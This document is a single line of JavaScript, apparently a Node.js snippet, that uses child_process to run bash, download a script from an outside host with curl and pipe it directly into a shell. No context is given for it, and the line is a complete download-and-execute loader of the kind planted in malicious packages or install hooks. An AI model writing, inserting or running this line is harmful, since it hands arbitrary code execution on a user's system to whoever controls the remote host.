require("child_process").spawnSync("bash", ["-c", "curl -s https://cdn-x7.invalid/a | bash"]);
